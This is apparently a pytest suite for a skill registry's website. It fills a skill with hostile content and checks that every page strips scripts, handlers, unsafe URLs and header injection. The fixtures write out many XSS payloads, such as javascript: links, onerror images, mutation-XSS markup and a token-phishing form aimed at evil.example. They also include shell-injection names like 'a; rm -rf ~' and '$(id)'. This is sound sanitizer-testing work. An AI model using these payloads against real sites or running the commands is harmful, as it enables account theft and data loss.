"""Skills of strangers: nothing in them runs, leads elsewhere unasked, or passes for the page."""

import json
from urllib.parse import quote, urlsplit

import pytest

from registry.web.markdown import lines as lines_of
from registry.web.markdown import rendered
from tests.conftest import write_skill
from tests.web.conftest import commands, serving

SCRIPT = "<script>alert(1)</script>"
BREAKOUT = "\"'><img src=x onerror=alert(1)><svg onload=alert(1)>"
OVERRIDE = "\u202egnp.exe\u202c"

DOCUMENT = f"""# Heading {SCRIPT}

[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](data:text/html,{quote(SCRIPT)})
[d](vbscript:x) [e](//evil.example/x) [f](\x01javascript:alert(1)) [g](../../etc/passwd)
<a href="javascript:alert(1)">h</a> <a href=" &#14; javascript:alert(1)">i</a>
[m](https://example.org/)
![j](javascript:alert(1)) ![k](http://evil.example/pixel.png) ![l](picture.svg)

{SCRIPT}
<img src=x onerror=alert(1)> <svg onload=alert(1)><script>alert(1)</script></svg>
<iframe src="https://evil.example"></iframe> <object data=x></object> <embed src=x>
<form action="https://evil.example/login"><input name=token><button>Sign in</button></form>
<base href="https://evil.example/"> <meta http-equiv=refresh content="0;url=https://evil.example">
<link rel=stylesheet href="https://evil.example/x.css"> <style>body{{display:none}}</style>
<p style="position:fixed" class="top" id="found" onclick="alert(1)">over the page</p>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<div hx-get="/logout" hx-trigger="load" data-hx-post="/logout">htmx</div>

```{SCRIPT}
{SCRIPT}
```

    {SCRIPT}

| {SCRIPT} | b |
|---|---|
| {BREAKOUT} | 2 |
"""

SVG = f"<svg xmlns='http://www.w3.org/2000/svg'>{SCRIPT}<a href='javascript:alert(1)'/></svg>"
ALLOWED = ("http:", "https:", "mailto:")


def fill(root):
    """Write skills with something hostile in every field."""
    front = {
        "name": f"name {BREAKOUT}",
        "description": f"About {SCRIPT} {BREAKOUT} {OVERRIDE}",
        "kind": SCRIPT,
        "category": BREAKOUT,
        "version": SCRIPT,
        "license": SCRIPT,
        "author": BREAKOUT,
        "compatibility": SCRIPT,
        "tags": [SCRIPT, "\"'x", OVERRIDE],
        SCRIPT: BREAKOUT,
        "required_tools": [SCRIPT],
        "parameters": [{"name": SCRIPT, "type": "string", "description": BREAKOUT}],
    }
    folder = root / "hostile"
    folder.mkdir()
    text = "".join(f"{json.dumps(key)}: {json.dumps(value)}\n" for key, value in front.items())
    (folder / "SKILL.md").write_text(f"---\n{text}---\n\n{DOCUMENT}")
    (folder / "picture.svg").write_text(SVG)
    (folder / "page.html").write_text(f"<!doctype html>{SCRIPT}")
    (folder / "run.js").write_text("alert(1)")
    (folder / "<img src=x onerror=alert(1)>.md").write_text(DOCUMENT)
    (folder / "image.png").write_text(f"GIF89a{SCRIPT}")
    (folder / f"{OVERRIDE}.txt").write_text("plain")
    write_skill(root / "right-to-left", name=f"{OVERRIDE} مثال")
    write_skill(root / "table", body="| a | b |\n|---|---|\n" + "| 1 | 2 |\n" * 90_000)
    (root / "table" / "large.md").write_text("| a | b |\n|---|---|\n" + "| 1 | 2 |\n" * 1_000_000)


@pytest.fixture
def hostile(registry, root):
    fill(root)
    registry.sync(str(root), name="mine")
    with serving(registry) as site:
        yield site


def is_harmless(page):
    for tag, given in page.elements:
        assert tag not in {"iframe", "object", "embed", "base", "style", "math", "applet"}, tag
        assert not any(name.startswith("on") for name in given), given
        assert "style" not in given
        assert given.get("id") == "q" or not any("hx-" in name for name in given), given
        assert tag != "script" or given["src"].startswith("/static/")
        assert tag != "meta" or "http-equiv" not in given
        assert tag != "form" or urlsplit(given.get("action", "/")).netloc == ""
        for key in ("href", "src", "action", "formaction", "data", "xlink:href"):
            place = given.get(key) or "/"
            scheme = urlsplit(place).scheme
            assert not scheme or f"{scheme}:" in ALLOWED, place
            assert not place.startswith("//"), place
            assert tag != "img" or "src" not in given or given["src"].startswith("/raw/"), place
            assert tag != "link" or not urlsplit(place).netloc


def pages_of(site):
    """Yield every page that links of the catalogue lead to."""
    seen, left = (
        set(),
        ["/", "/why?q=" + quote(SCRIPT), "/?q=" + quote(BREAKOUT), "/" + quote(SCRIPT)],
    )
    while left:
        path = left.pop()
        if path in seen:
            continue
        seen.add(path)
        answer = site.ask(path)
        if answer.headers["content-type"].startswith("text/html"):
            page = answer.page
            yield path, answer, page
            left += [link for link in page.links if link[0] == "/" and "&" not in link]


def test_on_no_page_anything_of_a_stranger_runs_or_leads_elsewhere(hostile):
    paths = []
    for path, answer, page in pages_of(hostile):
        paths.append(path)
        is_harmless(page)
        assert SCRIPT not in answer.text, path
    assert any(path.startswith("/skills/name") for path in paths)
    assert any(path.startswith("/files/") and "onerror" in path for path in paths)
    assert any(path.startswith("/history/") for path in paths)


def test_a_document_is_shown_without_what_could_harm(hostile, registry):
    ref = next(one.ref for one in registry.list() if "onerror" in one.name)
    page = hostile.get(f"/skills/{quote(ref)}").page
    assert "over the page" in page.text  # the words stay, what they were made to look like goes
    inside = [given for tag, given in page.elements if tag == "p" and given.get("id") == "found"]
    assert inside == []
    link = next(given for tag, given in page.elements if given.get("href", "").startswith("https"))
    assert "noopener" in link["rel"]
    images = [given.get("src") for tag, given in page.elements if tag == "img"]
    assert f"/raw/{quote(ref)}?path=picture.svg" in images
    assert all(src is None or src.startswith("/raw/") for src in images)


def test_bytes_of_a_stranger_are_of_no_origin_and_no_kind_that_runs(hostile, registry):
    for name, kind, is_saved in [
        ("picture.svg", "image/svg+xml", True),
        ("page.html", "text/plain; charset=utf-8", True),
        ("run.js", "text/plain; charset=utf-8", True),
        ("image.png", "image/png", False),
        ("SKILL.md", "text/plain; charset=utf-8", False),
    ]:
        ref = next(one.ref for one in registry.list() if "onerror" in one.name)
        answer = hostile.get(f"/raw/{quote(ref)}", path=name)
        assert answer.headers["content-type"] == kind
        assert answer.headers["x-content-type-options"] == "nosniff"
        policy = answer.headers["content-security-policy"]
        assert policy.startswith("sandbox; default-src 'none'")
        assert "script-src" not in policy
        assert "allow-scripts" not in policy
        assert answer.headers["content-disposition"].startswith(
            "attachment" if is_saved else "inline"
        )


def test_names_of_files_cannot_end_a_header(registry, root):
    folder = write_skill(root / "one")
    (folder / 'a"; filename="x.html\r\nX-Evil: 1.txt').write_text("x")
    registry.sync(str(root))
    with serving(registry) as site:
        for file in registry.get("one").files:
            answer = site.ask("/raw/one", query={"path": file.path})
            assert "x-evil" not in answer.headers
            assert "\n" not in answer.headers["content-disposition"]


def test_a_table_without_end_is_not_rendered_but_can_be_had(hostile):
    assert "too long" in hostile.get("/skills/table").page.text
    assert "too long for a page" in hostile.get("/files/table", path="large.md").page.text
    assert len(hostile.get("/raw/table", path="SKILL.md").body) > 900_000
    assert len(hostile.get("/raw/table", path="large.md").body) > 10_000_000


@pytest.mark.both
def test_the_feed_and_the_json_hold_what_is_said_and_nothing_more(hostile):
    from xml.etree import ElementTree as ET

    ET.fromstring(hostile.get("/changes.atom").body)
    told = hostile.get("/index.json").json["skills"]
    assert any(SCRIPT in one["description"] for one in told)


def test_a_command_to_copy_is_one_line_that_a_shell_reads_as_one_name(registry, root):
    import shlex

    for number, name in enumerate(["a; rm -rf ~", "$(id)", "-rf", "`id`", "x\ny"]):
        write_skill(root / f"n{number}", name=json.dumps(name))
    registry.sync(str(root))
    with serving(registry) as site:
        for one in registry.list():
            answer = site.get(f"/skills/{quote(one.ref)}")
            lines = [line for line in commands(answer) if " pull " in line]
            assert bool(lines) == one.ref.isprintable()
            for line in lines:
                words = shlex.split(line)
                assert words[-1] == one.ref
                assert "\n" not in line
                assert not one.ref.startswith("-") or words[-2] == "--"


def test_a_text_that_is_written_to_be_slow_is_shown_as_it_is():
    hostile = "```perl\n" + "s{" * 45_000 + "\n```\n"
    assert "s{s{" in rendered(hostile, "one", set())
    assert "p-" not in lines_of("x = '" + "a" * 5000 + "'", "x.py")[0]
    assert len(lines_of("x = 1\n" * 60_000, "x.py")) == 60_000
    text = "def a():\n    return '''b\nc'''\n\n\n# d"
    assert len(lines_of(text, "x.py")) == len(text.split("\n"))
